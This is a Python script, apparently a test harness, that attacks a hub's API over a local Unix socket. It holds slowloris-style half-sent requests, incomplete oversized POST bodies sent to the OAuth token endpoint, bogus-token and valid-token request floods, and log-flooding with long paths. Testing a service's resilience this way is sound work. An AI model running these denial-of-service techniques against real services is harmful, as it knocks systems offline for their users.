"""A session's program that does its worst to the hub's API: run inside of a session as `abuse.py WAY [TOKEN]`.

It runs until it is ended, and creates `abuse.started` in the home when it is under way.
"""

import contextlib
import os
import resource
import socket
import sys
import threading
import time
from pathlib import Path

API = "/run/daas-hub/api.sock"
HALF_SENT = 20_000
NO_BODY = 600
THREADS = 60


def request(line: str, *headers: str) -> bytes:
    return "\r\n".join([f"{line} HTTP/1.1", "Host: hub", "Connection: close", *headers, "", ""]).encode()


def hold(count: int, sent: bytes) -> None:
    """Open connections as fast as they are accepted, send the beginning of a request, and open closed ones again."""
    held: list[socket.socket] = []
    while True:
        while len(held) < count:
            client = socket.socket(socket.AF_UNIX)
            client.setblocking(False)
            try:
                client.connect(API)
                client.sendall(sent)
            except OSError:
                client.close()
                break
            held.append(client)
        time.sleep(0.01)
        for client in list(held):
            with contextlib.suppress(BlockingIOError):
                try:
                    is_closed = client.recv(1000) == b""
                except ConnectionError:
                    is_closed = True
                if is_closed:
                    client.close()
                    held.remove(client)


def ask(sent: bytes) -> None:
    """Send one request after the other."""
    while True:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            # waits in the kernel's queue: with a timeout it would spin, and the machine's processors would be measured
            client.connect(API)
            client.settimeout(30)
            client.sendall(sent)
            while client.recv(65536):
                pass


def main() -> None:
    way, token = sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else ""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    user = "GET /hub/api/user"
    work = {
        "headers": [(hold, (HALF_SENT, b"GET /hub/api/ HTTP/1.1\r\nHost: hub\r\nX: x"))],
        "bodies": [
            (hold, (NO_BODY, request("POST /hub/api/oauth2/token", "Content-Length: 900000") + b"x" * 900_000)),
            (hold, (NO_BODY, request("POST /hub/api/oauth2/token", "Content-Length: 60000") + b"x" * 50_000)),
        ],
        "tokens": [(ask, (request(user, f"Authorization: token {'0' * 32}"),))] * THREADS,
        "flood": [(ask, (request(user, f"Authorization: token {token}"),))] * THREADS,
        "log": [(ask, (request(f"GET /hub/api/users/{'x' * 4000}"),)), (ask, (b"\r\n\r\n" * 100,))] * (THREADS // 2),
    }[way]
    for function, arguments in work:
        threading.Thread(target=function, args=arguments, daemon=True).start()
    time.sleep(3)
    Path(os.environ["HOME"], "abuse.started").write_text("")
    threading.Event().wait()


main()
